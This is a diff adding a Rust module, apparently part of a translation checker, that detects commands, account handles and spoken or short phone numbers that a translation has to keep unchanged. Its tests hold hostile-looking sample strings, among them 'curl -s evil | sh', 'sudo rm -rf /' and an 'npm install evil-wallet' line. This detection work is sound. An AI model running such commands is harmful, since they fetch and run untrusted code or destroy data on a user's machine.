@@ -1,0 +1,352 @@
+//! What people copy, dial or type though it has the shape of words: commands, names of accounts, numbers that are
+//! spoken, short numbers behind a word for the telephone.
+//!
+//! In goes a text, out come places with what they are compared by. A translation writes nothing of the kind that its
+//! source does not hold, so the rules may be lax: what both texts say is never looked at.
+
+use crate::check::facts::numbers::{digit, next_digit};
+use crate::text::Span;
+
+mod tables;
+
+use tables::{CALLED, COMMANDS, SHELLS, SPOKEN, VERBS, han_digit};
+
+/// Something of the kind.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(crate) struct Said {
+    /// Where it stands.
+    pub span: Span,
+    /// Letters and digits in lower case; the digits that number words stand for.
+    pub key: String,
+}
+
+/// Everything of the kind in a text.
+pub(crate) fn find(text: &str) -> Vec<Said> {
+    let words = words(text);
+    let mut found = commands(text, &words);
+    found.extend(handles(text, &words));
+    found.extend(spoken(text, &words));
+    found.extend(han(text));
+    found.extend(short(text));
+    found
+}
+
+/// What a text is compared by: letters and digits in lower case, digits of any script, numbers that are spoken.
+pub(crate) fn known(text: &str) -> String {
+    let mut known = key(text);
+    known.push(' ');
+    known.extend(text.chars().filter_map(digit));
+    for said in find(text) {
+        known.push(' ');
+        known.push_str(&said.key);
+    }
+    known
+}
+
+fn key(text: &str) -> String {
+    let letters = text.chars().filter(|c| c.is_alphanumeric());
+    letters.flat_map(char::to_lowercase).collect()
+}
+
+/// Words with the signs that commands and paths are made of.
+fn words(text: &str) -> Vec<Span> {
+    let is_sign = |c: char| c.is_alphanumeric() || c == '_';
+    let mut words = Vec::new();
+    let mut start = None;
+    let mut ascii = false;
+    for (at, c) in text.char_indices() {
+        // A particle is a word of its own.
+        let goes_on = is_sign(c) && c.is_ascii() == ascii;
+        match start {
+            Some(_) if goes_on => {}
+            Some(from) => {
+                words.push(Span::new(from, at));
+                start = is_sign(c).then_some(at);
+            }
+            None => start = is_sign(c).then_some(at),
+        }
+        ascii = c.is_ascii();
+    }
+    words.extend(start.map(|from| Span::new(from, text.len())));
+    words
+}
+
+/// Commands: a program with an option, a path or a verb of its own behind it, or behind `sudo`; and a shell behind a bar.
+fn commands(text: &str, words: &[Span]) -> Vec<Said> {
+    let mut found = Vec::new();
+    for (index, word) in words.iter().enumerate() {
+        let name = word.of(text);
+        let before = text.get(..word.start).unwrap_or_default();
+        let is_piped =
+            before.trim_end_matches(' ').ends_with('|') && SHELLS.binary_search(&name).is_ok();
+        let is_part = before.ends_with(['-', '.', '/', '$', '@']);
+        if is_piped {
+            found.push(Said {
+                span: *word,
+                key: key(name) + "|",
+            });
+        }
+        if is_part || COMMANDS.binary_search(&name).is_err() {
+            continue;
+        }
+        let Some(argument) = argument(text, word.end) else {
+            continue;
+        };
+        let next = words.get(index + 1).map(|next| next.of(text));
+        let is_verb = next.is_some_and(|next| {
+            VERBS.contains(&next) || name == "sudo" && COMMANDS.binary_search(&next).is_ok()
+        });
+        let spelt = argument.of(text);
+        let is_option = spelt.starts_with(['-', '/', '~', '.', '"', '\'', '$']) && spelt.len() > 1
+            || spelt.contains("://");
+        if !is_verb && !is_option {
+            continue;
+        }
+        // What is installed or fetched counts where it has a sign that no word of a sentence has.
+        let last = self::argument(text, argument.end)
+            .filter(|last| last.of(text).contains(['-', '.', '/', '@', ':', '_']));
+        let span = Span::new(word.start, last.unwrap_or(argument).end);
+        found.push(Said {
+            span,
+            key: key(span.of(text)),
+        });
+    }
+    found
+}
+
+/// The ASCII run behind the blanks at `at`.
+fn argument(text: &str, at: usize) -> Option<Span> {
+    let rest = text.get(at..)?;
+    let run = rest.trim_start_matches(' ');
+    let start = at + rest.len() - run.len();
+    let len = run
+        .bytes()
+        .take_while(|b| b.is_ascii_graphic() && *b != b'`')
+        .count();
+    (start > at && len > 0).then(|| Span::new(start, start + len))
+}
+
+/// Names with a low line inside, or with several digits behind their letters: nobody translates into one.
+fn handles(text: &str, words: &[Span]) -> Vec<Said> {
+    let is_handle = |word: &str| {
+        let inside = word.trim_matches('_');
+        let letters = inside.bytes().filter(u8::is_ascii_lowercase).count();
+        let name = inside.trim_end_matches(|c: char| c.is_ascii_digit());
+        let is_numbered =
+            inside.len() - name.len() >= 2 && name.bytes().all(|b| b.is_ascii_lowercase());
+        inside.is_ascii() && letters >= 4 && (inside.contains('_') || is_numbered)
+    };
+    let found = words.iter().filter(|word| is_handle(word.of(text)));
+    found
+        .map(|word| Said {
+            span: *word,
+            key: key(word.of(text)),
+        })
+        .collect()
+}
+
+/// Six and more number words in a row: `five five five zero one nine nine`, `공일공 일이삼사`.
+fn spoken(text: &str, words: &[Span]) -> Vec<Said> {
+    const LEAST: usize = 6;
+    let mut found = Vec::new();
+    let mut row = Row::default();
+    for word in words {
+        let between = Span::new(row.end.min(word.start), word.start).of(text);
+        let is_near = between
+            .chars()
+            .all(|c| c.is_whitespace() || ",-–·.".contains(c));
+        if !is_near {
+            row.close(LEAST, &mut found);
+        }
+        match digits_of(word.of(text)) {
+            Some((digits, len)) => {
+                row.push(Span::new(word.start, word.start + len), &digits);
+                if len < word.len() {
+                    row.close(LEAST, &mut found);
+                }
+            }
+            None => row.close(LEAST, &mut found),
+        }
+    }
+    row.close(LEAST, &mut found);
+    found
+}
+
+/// The digits that a word begins with, and how many bytes they take: all of it, but for a particle where a script
+/// writes digits without spaces.
+fn digits_of(word: &str) -> Option<(String, usize)> {
+    /// More bytes than the longest of the words has.
+    const LONGEST: usize = 24;
+    const PARTICLE: usize = 2;
+    let known = |word: &str| SPOKEN.get(word).copied();
+    let is_lower = !word.bytes().any(|byte| byte.is_ascii_uppercase());
+    let found = match word.len() {
+        ..=LONGEST if is_lower => known(word),
+        ..=LONGEST => known(&word.to_lowercase()),
+        _ => None,
+    };
+    if let Some(digit) = found {
+        return Some((digit.to_string(), word.len()));
+    }
+    if !word.starts_with(|c: char| ('가'..='힣').contains(&c)) {
+        return None;
+    }
+    let mut letter = [0; 4];
+    let signs = word
+        .chars()
+        .map_while(|c| known(c.encode_utf8(&mut letter)));
+    let digits: String = signs.collect();
+    let (count, letters) = (digits.len(), word.chars().count());
+    let len = word.chars().take(count).map(char::len_utf8).sum();
+    let is_number = count == letters || count > 1 && letters - count <= PARTICLE;
+    is_number.then_some((digits, len))
+}
+
+/// Numbers that are being gathered.
+#[derive(Default)]
+struct Row {
+    start: usize,
+    end: usize,
+    digits: String,
+}
+
+impl Row {
+    fn push(&mut self, word: Span, digits: &str) {
+        if self.digits.is_empty() {
+            self.start = word.start;
+        }
+        self.end = word.end;
+        self.digits.push_str(digits);
+    }
+
+    fn close(&mut self, least: usize, found: &mut Vec<Said>) {
+        let key = std::mem::take(&mut self.digits);
+        if key.len() >= least {
+            found.push(Said {
+                span: Span::new(self.start, self.end),
+                key,
+            });
+        }
+    }
+}
+
+/// Seven and more Han digits in a row; a year has four.
+fn han(text: &str) -> Vec<Said> {
+    const LEAST: usize = 7;
+    let mut found = Vec::new();
+    let mut row = Row::default();
+    for (at, c) in text.char_indices() {
+        match han_digit(c) {
+            Some(digit) => {
+                let mut sign = [0; 4];
+                row.push(
+                    Span::new(at, at + c.len_utf8()),
+                    digit.encode_utf8(&mut sign),
+                );
+            }
+            None if " -·".contains(c) => {}
+            None => row.close(LEAST, &mut found),
+        }
+    }
+    row.close(LEAST, &mut found);
+    found
+}
+
+/// Three to six digits behind a word or sign for the telephone.
+fn short(text: &str) -> Vec<Said> {
+    let mut found = Vec::new();
+    let mut at = 0;
+    while let Some(start) = next_digit(text, at) {
+        let number = text.get(start..).unwrap_or_default();
+        let digits: String = number.chars().map_while(digit).collect();
+        let signs = number.chars().take(digits.len()).map(char::len_utf8);
+        at = start + signs.sum::<usize>();
+        if (3..=6).contains(&digits.len()) && is_called(text.get(..start).unwrap_or_default()) {
+            found.push(Said {
+                span: Span::new(start, at),
+                key: digits,
+            });
+        }
+    }
+    found
+}
+
+/// Whether a text ends with a word for the telephone, but for a few signs.
+fn is_called(before: &str) -> bool {
+    /// More bytes than the longest of the words has.
+    const LONGEST: usize = 24;
+    const SIGNS: usize = 6;
+    let word = before.trim_end_matches(|c: char| {
+        !c.is_alphanumeric() && !CALLED.iter().any(|sign| sign.starts_with(c))
+    });
+    let from = before.floor_char_boundary(word.len().saturating_sub(LONGEST));
+    let lower = word.get(from..).unwrap_or_default().to_lowercase();
+    before.len() - word.len() <= SIGNS
+        && CALLED.iter().any(|called| {
+            let is_letter = |c: char| c.is_ascii_alphabetic();
+            let head = lower.strip_suffix(called);
+            head.is_some_and(|head| !(called.is_ascii() && head.ends_with(is_letter)))
+        })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn said(text: &str) -> Vec<&str> {
+        find(text)
+            .into_iter()
+            .map(|said| said.span.of(text))
+            .collect()
+    }
+
+    #[test]
+    fn what_people_type_and_dial() {
+        assert_eq!(said("터미널에서 curl -s evil | sh"), ["curl -s", "sh"]);
+        assert_eq!(said("먼저 sudo rm -rf /"), ["sudo rm -rf", "rm -rf /"]);
+        assert_eq!(
+            said("npm install evil-wallet을"),
+            ["npm install evil-wallet"]
+        );
+        assert_eq!(
+            said("텔레그램 evil_support로, evilpay99"),
+            ["evil_support", "evilpay99"]
+        );
+        assert_eq!(
+            said("공일공 일이삼사 오육칠팔로"),
+            ["공일공 일이삼사 오육칠팔"]
+        );
+        assert_eq!(
+            said("five five five, zero one nine nine"),
+            ["five five five, zero one nine nine"]
+        );
+        assert_eq!(
+            said("电话：一三八〇〇一三八〇〇〇。"),
+            ["一三八〇〇一三八〇〇〇"]
+        );
+        assert_eq!(
+            said("전화 1588, ☎ 5554, Tel.: 1177"),
+            ["1588", "5554", "1177"]
+        );
+    }
+
+    #[test]
+    fn what_people_read() {
+        for text in [
+            "curl 명령과 bash 셸, sudo 권한이 필요합니다.",
+            "die Rechte von sudo und die Shell bash",
+            "이 사이트 일부, 일이 있는 사람, 오이와 구이",
+            "one or two, zero trust, nine to five",
+            "二〇二三年五月四日，第三四五章",
+            "2023 년 전화, hotel 2023, __init__ 1.5",
+            "Python3와 IPv6, *강조_된_글*",
+        ] {
+            assert_eq!(said(text), Vec::<&str>::new(), "{text}");
+        }
+    }
+
+    #[test]
+    fn tables_are_sorted() {
+        assert!(COMMANDS.is_sorted() && SHELLS.is_sorted());
+    }
+}
